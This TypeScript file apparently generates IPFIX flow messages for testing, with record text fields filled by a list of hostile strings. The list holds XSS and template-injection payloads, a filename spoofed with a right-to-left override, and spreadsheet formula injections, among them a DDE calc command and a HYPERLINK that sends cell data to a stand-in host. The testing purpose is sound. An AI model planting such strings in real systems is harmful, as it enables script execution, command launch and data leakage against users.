/// <reference types="node" />
// Writes IPFIX messages (RFC 7011) whose texts are as hostile as a network may make them.

const ANTREA = 56506;

interface Element {
  pen?: number;
  id: number;
  /** 65535: variable length. */
  length: number;
}

/** Names that want to be markup, script, a formula, or to turn the page around; the first rank highest. */
export const HOSTILE = {
  script: "<script>window.pwned=1</script>",
  image: '"><img src=x onerror="window.pwned=2">',
  override: "pod-\u202egnp.exe\u202c\u2066",
  long: `${"very-long-".repeat(25)}end`,
  combining: `z${"\u0334\u0348\u0352".repeat(40)}`,
  formula: '=HYPERLINK("http://192.0.2.66/?"&A1;"click")',
  control: "a\u0007b\u001b[31mc",
  quote: `a"b'c\\d,e;f\ng`,
  svg: "<svg/onload=window.pwned=3>",
  link: "javascript:window.pwned=4",
  template: "${window.pwned=5}{{constructor.constructor('window.pwned=6')()}}",
  command: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd",
  tab: "\t=1+1",
} as const;

const FIELDS: Element[] = [
  { id: 8, length: 4 }, { id: 12, length: 4 }, { id: 7, length: 2 }, { id: 11, length: 2 }, { id: 4, length: 1 },
  { id: 1, length: 8 }, { id: 2, length: 8 }, { id: 10, length: 4 },
  { id: 82, length: 65535 },
  { pen: ANTREA, id: 100, length: 65535 }, { pen: ANTREA, id: 101, length: 65535 },
  { pen: ANTREA, id: 102, length: 65535 }, { pen: ANTREA, id: 103, length: 65535 },
  { id: 96, length: 65535 }, { id: 371, length: 65535 }, { id: 461, length: 65535 },
];

function variable(text: string): Buffer {
  const octets = Buffer.from(text, "utf8");
  if (octets.length < 255) return Buffer.concat([Buffer.from([octets.length]), octets]);
  return Buffer.concat([Buffer.from([255, octets.length >> 8, octets.length & 255]), octets]);
}

function uint(value: number, length: number): Buffer {
  const octets = Buffer.alloc(8);
  octets.writeBigUInt64BE(BigInt(value));
  return octets.subarray(8 - length);
}

function set(id: number, body: Buffer): Buffer {
  return Buffer.concat([uint(id, 2), uint(body.length + 4, 2), body]);
}

function template(id: number): Buffer {
  const fields = FIELDS.map(({ pen, id: element, length }) =>
    pen === undefined
      ? Buffer.concat([uint(element, 2), uint(length, 2)])
      : Buffer.concat([uint(element | 0x8000, 2), uint(length, 2), uint(pen, 4)]),
  );
  return set(2, Buffer.concat([uint(id, 2), uint(FIELDS.length, 2), ...fields]));
}

/** A record that has `name` wherever a text fits. */
function record(name: string, index: number): Buffer {
  const names = [name, name, name, name, name, name, name, name].slice(0, FIELDS.filter((f) => f.length === 65535).length);
  return Buffer.concat([
    Buffer.from([10, 9, 0, index]), Buffer.from([10, 9, 1, index]), uint(40_000 + index, 2), uint(443, 2), uint(6, 1),
    uint(1_000_000 * (100 - index), 8), uint(1000, 8), uint(index + 1, 4), ...names.map(variable),
  ]);
}

export interface Sent {
  datagrams: Buffer[];
  records: number;
}

/** One message with the template, then one for each name. */
export function hostileMessages(names: readonly string[] = Object.values(HOSTILE)): Sent {
  let sequence = 0;
  const message = (...sets: Buffer[]): Buffer => {
    const body = Buffer.concat(sets);
    const header = [uint(10, 2), uint(body.length + 16, 2), uint(Math.floor(Date.now() / 1e3), 4), uint(sequence, 4), uint(66, 4)];
    return Buffer.concat([...header, body]);
  };
  const datagrams = [message(template(300))];
  for (const [index, name] of names.entries()) {
    datagrams.push(message(set(300, record(name, index))));
    sequence += 1;
  }
  return { datagrams, records: names.length };
}
